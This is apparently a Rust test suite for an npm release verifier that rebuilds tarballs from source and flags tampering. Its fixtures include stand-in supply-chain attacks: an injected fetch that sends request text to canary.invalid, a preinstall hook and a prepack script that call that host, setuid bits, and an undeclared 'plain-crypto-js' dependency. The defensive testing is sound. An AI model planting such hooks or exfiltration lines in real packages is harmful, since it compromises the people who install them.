//! npm releases through the binary: an honest one, and every way in which it can be tampered with.

use std::path::{Path, PathBuf};

use remint_model::line_ends;

use crate::machine::{locked_to, with_dependency};
use crate::tamper::{self, Entry};
use crate::world::World;

const SPEC: &str = "npm:note-server@1.0.0";

/// A minimal tarball: only to have something to hold a build against.
pub(crate) fn stand_in(world: &World, file: &str, package: &str) -> PathBuf {
    let path = world.path().join(file);
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
        fs_err::File::create(&path).unwrap(),
        flate2::Compression::default(),
    ));
    let content = format!(r#"{{"name":"{package}","version":"1.0.0"}}"#);
    let mut header = tar::Header::new_ustar();
    header.set_size(content.len() as u64);
    header.set_mode(0o644);
    header.set_cksum();
    builder
        .append_data(&mut header, "package/package.json", content.as_bytes())
        .unwrap();
    builder.into_inner().unwrap().finish().unwrap();
    path
}

struct Release {
    world: World,
    repository: PathBuf,
    file: PathBuf,
}

fn release(changes: &[(&str, &str)]) -> Release {
    let world = World::new();
    let repository = world.repository("npm/plain", changes, "v1.0.0");
    let file = world.build(
        SPEC,
        &repository,
        &stand_in(&world, "note-server-1.0.0.tgz", "note-server"),
    );
    Release {
        world,
        repository,
        file,
    }
}

impl Release {
    fn verify(&self, file: &Path) -> crate::world::Answer {
        self.world.verify(&[
            SPEC,
            "--artifact",
            file.to_str().unwrap(),
            "--source",
            self.repository.to_str().unwrap(),
        ])
    }

    fn tampered(&self, change: impl FnOnce(&mut Vec<Entry>)) -> crate::world::Answer {
        let file = tamper::tarball(&self.file, &self.world.path().join("tampered"), change);
        self.verify(&file)
    }
}

#[test]
fn what_npm_packs_without_a_build_is_made_here_byte_for_byte() {
    let manifest = |more: &str| {
        format!("{{\"name\":\"note-server\",\"version\":\"1.0.0\",\"repository\":\"o/n\"{more}}}\n")
    };
    let of_all_kinds: &[(&str, &str)] = &[
        ("lib/Upper.js", "1\n"),
        ("lib/upper2.js", "2\n"),
        ("lib/x_y.js", "3\n"),
        ("lib/x-y.d.ts", "4\n"),
        ("docs/Guide.md", "5\n"),
        ("docs/data.json", "{}\n"),
        ("LICENSE.txt", "6\n"),
    ];
    let shapes = [
        (
            manifest(",\"bin\":{\"n\":\"./lib/upper2.js\"},\"files\":[\"lib\",\"docs/data.json\"]"),
            "",
        ),
        (
            manifest(",\"main\":\"lib/answer.js\""),
            "/docs\n*.d.ts\n# notes\nnote.js\n",
        ),
        (manifest(""), "**/*\n!*.js\n!README.md\n"),
    ];
    for (manifest, ignored) in shapes {
        let changes = [
            of_all_kinds,
            &[("package.json", &*manifest), (".npmignore", ignored)],
        ]
        .concat();
        let release = release(&changes);
        let answer = release.verify(&release.file);
        assert_eq!(
            answer.outcome(),
            ("verified", "identical"),
            "{manifest}\n{answer:?}"
        );
        assert_eq!(
            answer.target()["basis"],
            "source-tree",
            "{manifest}\n{answer:?}"
        );
        assert!(answer.target()["build"].is_null(), "{answer:?}");
    }
}

#[test]
fn a_file_more_than_npm_packs_is_found_by_npm_itself() {
    let release = release(&[]);
    let answer = release.tampered(|entries| {
        entries.push(Entry {
            path: "package/notes.txt".to_owned(),
            mode: 0o644,
            content: b"canary\n".to_vec(),
        });
    });
    assert_eq!(answer.outcome(), ("failed", "different"), "{answer:?}");
    assert_eq!(answer.target()["basis"], "rebuild");
}

#[test]
fn what_was_packed_on_windows_is_verified_and_nothing_else_hides_behind_line_ends() {
    let release = release(&[]);
    let on_windows = |entries: &mut Vec<Entry>| {
        for entry in entries.iter_mut() {
            if let Some(converted) = line_ends::with_crlf(&entry.content) {
                entry.content = converted;
            }
        }
    };
    let answer = release.tampered(on_windows);
    assert_eq!(answer.outcome(), ("verified", "equivalent"), "{answer:?}");
    let assumed = &answer.target()["build"]["assumptions"];
    assert!(
        assumed.to_string().contains("windows-line-ends"),
        "{assumed}"
    );
    let erased = answer.target()["erasures"].as_array().unwrap();
    assert!(
        erased
            .iter()
            .any(|one| one["normaliser"] == "windows-line-ends"),
        "{answer:?}"
    );

    let answer = release.tampered(|entries| {
        on_windows(entries);
        tamper::replace(
            entries,
            "package/lib/answer.js",
            "      notes.push(",
            "      // canary\r\n      notes.push(",
        );
    });
    assert_eq!(answer.outcome(), ("failed", "different"), "{answer:?}");
    assert_eq!(
        answer.differences(),
        [("lib/answer.js", "changed", "executable")]
    );

    // Half of the lines: no checkout makes that.
    let answer = release.tampered(|entries| {
        tamper::replace(entries, "package/lib/answer.js", "{\n", "{\r\n");
    });
    assert_eq!(answer.outcome(), ("failed", "different"), "{answer:?}");
}

#[test]
fn an_honest_release_is_verified_and_tampered_ones_are_named() {
    let release = release(&[]);

    let answer = release.verify(&release.file);
    assert_eq!(answer.code, 0, "{answer:?}");
    assert_eq!(answer.outcome(), ("verified", "identical"), "{answer:?}");
    assert!(answer.findings().is_empty(), "{answer:?}");
    assert_eq!(answer.target()["basis"], "source-tree", "{answer:?}");

    // Another encoder wrote it: then npm itself has to pack.
    let answer = release.tampered(|_| {});
    assert_eq!(answer.outcome(), ("verified", "equivalent"), "{answer:?}");
    assert_eq!(answer.target()["basis"], "rebuild", "{answer:?}");

    let line = release.tampered(|entries| {
        tamper::replace(
            entries,
            "package/lib/answer.js",
            "      notes.push(",
            "      fetch(\"https://canary.invalid/\" + request.params.arguments.text);\n      notes.push(",
        );
    });
    assert_eq!(line.code, 1);
    assert_eq!(line.outcome(), ("failed", "different"));
    assert_eq!(
        line.differences(),
        [("lib/answer.js", "changed", "executable")]
    );
    let hunk = line.target()["differences"][0]["hunks"][0]
        .as_str()
        .unwrap();
    assert!(
        hunk.contains("+      fetch(\"https://canary.invalid/\""),
        "{hunk}"
    );

    let dependency = release.tampered(|entries| {
        tamper::replace(
            entries,
            "package/package.json",
            "\"files\"",
            "\"dependencies\": { \"plain-crypto-js\": \"4.2.1\" },\n  \"files\"",
        );
    });
    assert_eq!(dependency.outcome(), ("failed", "different"));
    assert_eq!(
        dependency.findings().get("undeclared-dependency"),
        Some(&"high")
    );

    let hook = release.tampered(|entries| {
        tamper::replace(
            entries,
            "package/package.json",
            "\"files\"",
            "\"scripts\": { \"preinstall\": \"node setup.js\" },\n  \"files\"",
        );
        tamper::add(
            entries,
            "package/setup.js",
            "fetch('https://canary.invalid/');\n",
        );
    });
    assert_eq!(hook.outcome(), ("failed", "different"));
    assert_eq!(
        hook.findings().get("undeclared-install-hook"),
        Some(&"high")
    );
    assert!(
        hook.differences()
            .contains(&("setup.js", "added", "install-script"))
            || hook
                .differences()
                .contains(&("setup.js", "added", "executable"))
    );

    let implicit = release.tampered(|entries| {
        tamper::add(entries, "package/binding.gyp", "{\"targets\":[]}\n");
    });
    assert_eq!(
        implicit.findings().get("undeclared-install-hook"),
        Some(&"high"),
        "{implicit:?}"
    );

    let file = release.tampered(|entries| {
        tamper::add(entries, "package/lib/extra.js", "export {};\n");
    });
    assert_eq!(
        file.differences(),
        [("lib/extra.js", "added", "executable")]
    );

    let duplicate = release.tampered(|entries| {
        tamper::add(
            entries,
            "package/lib/answer.js",
            "export const answer = () => ({});\n",
        );
    });
    assert_eq!(duplicate.findings().get("duplicate-entry"), Some(&"high"));
    assert_eq!(duplicate.outcome().0, "failed");

    let traversal = release.tampered(|entries| {
        tamper::add(
            entries,
            "other/lib/answer.js",
            "export const answer = () => ({});\n",
        );
    });
    assert_eq!(traversal.outcome().0, "failed");
    assert_eq!(
        traversal.findings().get("foreign-top-folder"),
        Some(&"high"),
        "{traversal:?}"
    );

    let setuid = release.tampered(|entries| {
        tamper::entry(entries, "package/lib/index.js").mode = 0o4755;
    });
    assert_eq!(
        setuid.findings().get("special-mode-bits"),
        Some(&"high"),
        "{setuid:?}"
    );

    let identity = release.tampered(|entries| {
        tamper::replace(entries, "package/package.json", "\"1.0.0\"", "\"2.0.0\"");
    });
    assert_eq!(identity.findings().get("identity-mismatch"), Some(&"high"));
}

#[test]
fn plans_are_shown_when_asked_for() {
    let world = World::new();
    let repository = world.repository("npm/plain", &[], "v1.0.0");
    let file = stand_in(&world, "note-server-1.0.0.tgz", "note-server");
    let answer = world.verify(&[
        SPEC,
        "--artifact",
        file.to_str().unwrap(),
        "--source",
        repository.to_str().unwrap(),
        "--explain",
    ]);
    assert!(
        answer.stderr.contains("npm pack --pack-destination /out"),
        "{}",
        answer.stderr
    );
    assert!(answer.stderr.contains("tool   node"), "{}", answer.stderr);
}

#[test]
fn a_build_that_calls_home_is_seen_although_it_hides_it() {
    let quiet = r#"{
  "name": "note-server", "version": "1.0.0", "type": "module", "files": ["lib"],
  "scripts": { "prepack": "node call.js" }
}
"#;
    let call = "try { await fetch('https://canary.invalid/collect'); } catch {}\n";
    let release = release(&[("package.json", quiet), ("call.js", call)]);
    let answer = release.verify(&release.file);
    assert_eq!(answer.outcome().1, "identical", "{answer:?}");
    assert_eq!(
        answer.findings().get("unexpected-network-access"),
        Some(&"medium"),
        "{answer:?}"
    );
    let attempts = answer.target()["build"]["network_attempts"].to_string();
    assert!(attempts.contains("canary.invalid"), "{attempts}");
}

#[test]
fn a_committed_result_does_not_vouch_for_itself() {
    const EVIL: &str = "console.log('committed, and made by nothing');\n";
    let manifest = r#"{
  "name": "note-server", "version": "1.0.0", "type": "module", "files": ["lib", "dist"],
  "scripts": { "build": "node -e 1", "prepack": "node make.js" }
}
"#;
    let make =
        "import { writeFileSync } from 'node:fs';\nwriteFileSync('dist/index.js', '// made\\n');\n";
    let release = release(&[
        ("package.json", manifest),
        ("make.js", make),
        ("dist/index.js", EVIL),
    ]);
    let honest = release.verify(&release.file);
    assert_eq!(honest.outcome(), ("verified", "identical"), "{honest:?}");

    // Packed without scripts, and with the manifest that says that there are none.
    let unbuilt = |entries: &mut Vec<Entry>| {
        for entry in entries {
            if entry.path == "package/dist/index.js" {
                entry.content = EVIL.into();
            }
        }
    };
    let answer = release.tampered(unbuilt);
    assert_eq!(answer.outcome(), ("failed", "different"), "{answer:?}");
    let answer = release.tampered(|entries| {
        unbuilt(entries);
        let text = manifest.replace(", \"prepack\": \"node make.js\"", "");
        for entry in entries {
            if entry.path == "package/package.json" {
                entry.content = text.clone().into_bytes();
            }
        }
    });
    assert_eq!(answer.outcome(), ("failed", "different"), "{answer:?}");
}

#[test]
fn what_git_writes_into_a_committed_result_vouches_for_nothing_either() {
    const EVIL: &str = "// $Id$\nconsole.log('committed, and made by nothing');\n";
    let manifest = r#"{
  "name": "note-server", "version": "1.0.0", "type": "module", "files": ["dist"],
  "scripts": { "build": "node -e 1", "prepack": "node make.js" }
}
"#;
    let make =
        "import { writeFileSync } from 'node:fs';\nwriteFileSync('dist/index.js', '// made\\n');\n";
    let release = release(&[
        ("package.json", manifest),
        ("make.js", make),
        ("dist/index.js", EVIL),
        (".gitattributes", "dist/*.js ident\n"),
    ]);
    let stored = remint_model::CommitId::of_blob(EVIL.as_bytes());
    let answer = release.tampered(|entries| {
        for entry in entries {
            if entry.path == "package/dist/index.js" {
                let expanded = EVIL.replace("$Id$", &format!("$Id: {stored} $"));
                entry.content = expanded.into_bytes();
            }
        }
    });
    assert_eq!(answer.outcome(), ("failed", "different"), "{answer:?}");
}

#[test]
fn a_build_without_a_step_that_changes_its_source_leaves_open_what_was_published() {
    const EVIL: &str = "console.log('committed');\n";
    let manifest = r#"{
  "name": "note-server", "version": "1.0.0", "type": "module", "files": ["dist"],
  "scripts": { "build": "node build.js", "prepack": "node make.js && npm run build" }
}
"#;
    let make =
        "import { writeFileSync } from 'node:fs';\nwriteFileSync('src/core.js', '// made\\n');\n";
    let build = "import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';\n\
                 mkdirSync('dist', { recursive: true });\n\
                 writeFileSync('dist/index.js', '// built\\n' + readFileSync('src/core.js', 'utf8'));\n";
    let release = release(&[
        ("package.json", manifest),
        ("make.js", make),
        ("build.js", build),
        ("src/core.js", EVIL),
    ]);
    let honest = release.verify(&release.file);
    assert_eq!(honest.outcome(), ("verified", "identical"), "{honest:?}");

    let answer = release.tampered(|entries| {
        for entry in entries {
            if entry.path == "package/dist/index.js" {
                entry.content = format!("// built\n{EVIL}").into_bytes();
            }
        }
    });
    assert_eq!(
        answer.outcome(),
        ("inconclusive", "inconclusive"),
        "{answer:?}"
    );
    let detail = answer.target()["detail"].to_string();
    assert!(detail.contains("leaves out steps"), "{detail}");
    assert!(
        detail.contains("`dist/index.js` becomes something else"),
        "{detail}"
    );
}

#[test]
fn a_step_that_asks_a_host_in_vain_hinders_only_what_it_may_have_been_to_write() {
    let manifest = r#"{
  "name": "note-server", "version": "1.0.0", "type": "module", "files": ["dist"],
  "scripts": { "build": "node build.js" }
}
"#;
    let workflow = "on: push\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      \
                    - run: node ask.js\n      - run: npm run build\n      - run: npm publish\n";
    let build = "import { mkdirSync, writeFileSync } from 'node:fs';\n\
                 mkdirSync('dist', { recursive: true });\n\
                 writeFileSync('dist/index.js', '// built\\n');\n";
    let ask = "await fetch('https://canary.invalid/published');\n";
    let fails = "process.exit(1);\n";
    let of_step = "what a step of the source would have done that failed here";
    for (step, committed, objection) in [
        (ask, None, None),
        (
            ask,
            Some("dist/core.js"),
            Some("asked for a host and failed"),
        ),
        (fails, None, Some("failed here")),
    ] {
        let mut files = vec![
            ("package.json", manifest),
            (".github/workflows/publish.yml", workflow),
            ("ask.js", step),
            ("build.js", build),
        ];
        files.extend(committed.map(|path| (path, "// committed\n")));
        let release = release(&files);
        let answer = release.verify(&release.file);
        let target = answer.target();
        let failed = &target["build"]["failed_commands"];
        assert_eq!(failed, &serde_json::json!(["node ask.js"]), "{answer:?}");
        if let Some(objection) = objection {
            assert_eq!(answer.outcome().0, "inconclusive", "{answer:?}");
            let detail = target["detail"].to_string();
            assert!(detail.contains(objection), "{detail}");
        } else {
            assert_eq!(answer.outcome(), ("verified", "identical"), "{answer:?}");
            assert!(target["limits"].to_string().contains(of_step), "{answer:?}");
        }
    }
}

#[test]
fn a_build_that_needs_the_network_says_so() {
    let world = World::new();
    let manifest = r#"{
  "name": "note-server", "version": "1.0.0", "type": "module", "files": ["lib"],
  "scripts": { "prepack": "node call.js" }
}
"#;
    let repository = world.repository(
        "npm/plain",
        &[
            ("package.json", manifest),
            ("call.js", "await fetch('https://canary.invalid/data');\n"),
        ],
        "v1.0.0",
    );
    let answer = world.verify(&[
        SPEC,
        "--artifact",
        stand_in(&world, "note-server-1.0.0.tgz", "note-server")
            .to_str()
            .unwrap(),
        "--source",
        repository.to_str().unwrap(),
    ]);
    assert_eq!(answer.code, 3, "{answer:?}");
    assert_eq!(answer.target()["reason"], "not-built");
    assert!(
        answer.target()["detail"]
            .as_str()
            .unwrap()
            .contains("build-needs-network"),
        "{answer:?}"
    );
}

#[test]
fn what_the_registry_no_longer_has_is_named_and_substituted_where_asked_for() {
    let world = World::new();
    let (repository, stand_in) = with_dependency(&world);
    let file = world.build(SPEC, &repository, &stand_in);
    let other = tamper::tarball(&file, &world.path().join("tampered"), |entries| {
        for entry in entries {
            if entry.path == "package/lib/ms.js" {
                entry.content = b"// of no version\n".to_vec();
            }
        }
    });

    let world = World::new();
    let repository = locked_to(&world, "2.1.99");
    let verify = |file: &Path, more: &[&str]| {
        let (file, repository) = (file.to_str().unwrap(), repository.to_str().unwrap());
        let arguments = [SPEC, "--artifact", file, "--source", repository];
        world.verify(&[&arguments[..], more].concat())
    };
    let substitute = ["--gone-dependencies", "substitute"];

    let answer = verify(&file, &[]);
    assert_eq!(answer.code, 3, "{answer:?}");
    assert_eq!(answer.target()["reason"], "not-built", "{answer:?}");
    let detail = answer.target()["detail"].to_string();
    assert!(detail.contains("/ms-2.1.99.tgz"), "{detail}");
    assert!(detail.contains(&substitute.join(" ")), "{detail}");

    let answer = verify(&file, &substitute);
    assert_eq!(answer.outcome(), ("verified", "identical"), "{answer:?}");
    let target = answer.target();
    let assumptions = target["build"]["assumptions"].to_string();
    assert!(assumptions.contains("ms 2.1.99"), "{assumptions}");
    let limits = target["limits"].to_string();
    assert!(limits.contains("gone from the registry"), "{limits}");

    // The other version may be why it differs.
    let answer = verify(&other, &substitute);
    assert_eq!(answer.outcome().0, "inconclusive", "{answer:?}");
    let detail = answer.target()["detail"].to_string();
    assert!(detail.contains("ms 2.1.99"), "{detail}");
}

#[test]
fn a_build_that_fails_says_where() {
    let world = World::new();
    let manifest = r#"{
  "name": "note-server", "version": "1.0.0", "type": "module", "files": ["lib"],
  "scripts": { "prepack": "echo before-the-end && exit 7" }
}
"#;
    let repository = world.repository("npm/plain", &[("package.json", manifest)], "v1.0.0");
    let answer = world.verify(&[
        SPEC,
        "--artifact",
        stand_in(&world, "note-server-1.0.0.tgz", "note-server")
            .to_str()
            .unwrap(),
        "--source",
        repository.to_str().unwrap(),
    ]);
    assert_eq!(answer.code, 3, "{answer:?}");
    assert_eq!(answer.target()["reason"], "not-built");
    let tail = answer.target()["build"]["failure"]["log_tail"]
        .as_str()
        .unwrap();
    assert!(tail.contains("before-the-end"), "{tail}");
}

#[test]
fn a_branch_that_explains_what_the_default_one_does_not_is_built_and_told() {
    const PAYLOAD: &str = "export const answer = () => \"payload\";\n";
    let release = release(&[]);
    let repository = git2::Repository::open(&release.repository).unwrap();
    // Without the tag all of the history is searched.
    repository.tag_delete("v1.0.0").unwrap();
    let base = repository.head().unwrap().peel_to_commit().unwrap();
    let mut index = git2::Index::new().unwrap();
    index.read_tree(&base.tree().unwrap()).unwrap();
    let mut entry = index.get_path(Path::new("lib/answer.js"), 0).unwrap();
    entry.id = repository.blob(PAYLOAD.as_bytes()).unwrap();
    index.add(&entry).unwrap();
    let tree = index.write_tree_to(&repository).unwrap();
    let tree = repository.find_tree(tree).unwrap();
    let author = base.author();
    let patch = repository
        .commit(
            Some("refs/heads/patch"),
            &author,
            &author,
            "Patch",
            &tree,
            &[&base],
        )
        .unwrap();

    let answer = release.verify(&release.file);
    assert_eq!(answer.outcome(), ("verified", "identical"), "{answer:?}");

    let answer = release.tampered(|entries| {
        tamper::entry(entries, "package/lib/answer.js").content = PAYLOAD.as_bytes().to_vec();
    });
    assert_eq!(answer.outcome(), ("failed", "equivalent"), "{answer:?}");
    assert_eq!(answer.findings()["commit-off-main"], "high", "{answer:?}");
    assert_eq!(answer.target()["source"]["commit"], patch.to_string());
}

#[test]
fn a_verdict_stands_also_where_its_evidence_cannot_be_kept() {
    let world = World::new();
    let manifest = r#"{
  "name": "note-server", "version": "1.0.0", "type": "module", "files": ["lib"],
  "scripts": { "prepack": "exit 7" }
}
"#;
    let repository = world.repository("npm/plain", &[("package.json", manifest)], "v1.0.0");
    let file = stand_in(&world, "note-server-1.0.0.tgz", "note-server");
    let answer = world.verify(&[
        SPEC,
        "--artifact",
        file.to_str().unwrap(),
        "--source",
        repository.to_str().unwrap(),
        "--keep",
        file.to_str().unwrap(),
    ]);
    assert_eq!(answer.target()["reason"], "not-built", "{answer:?}");
    assert_eq!(answer.code, 4, "{answer:?}");
    assert!(answer.stderr.contains("cannot keep evidence in"));
}

#[test]
fn files_that_are_no_archives_are_malformed_and_nothing_else() {
    let world = World::new();
    let repository = world.repository("npm/plain", &[], "v1.0.0");
    for (name, content) in [
        ("empty", &b""[..]),
        ("text", b"not an archive"),
        ("truncated", &[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 1, 2, 3]),
    ] {
        let directory = world.path().join(name);
        fs_err::create_dir_all(&directory).unwrap();
        let file = directory.join("note-server-1.0.0.tgz");
        fs_err::write(&file, content).unwrap();
        let answer = world.verify(&[
            SPEC,
            "--artifact",
            file.to_str().unwrap(),
            "--source",
            repository.to_str().unwrap(),
        ]);
        assert_eq!(
            answer.target()["content"],
            "inconclusive",
            "{name}: {answer:?}"
        );
        assert_eq!(answer.target()["reason"], "malformed", "{name}: {answer:?}");
        assert_ne!(answer.code, 0, "{name}");
    }
}
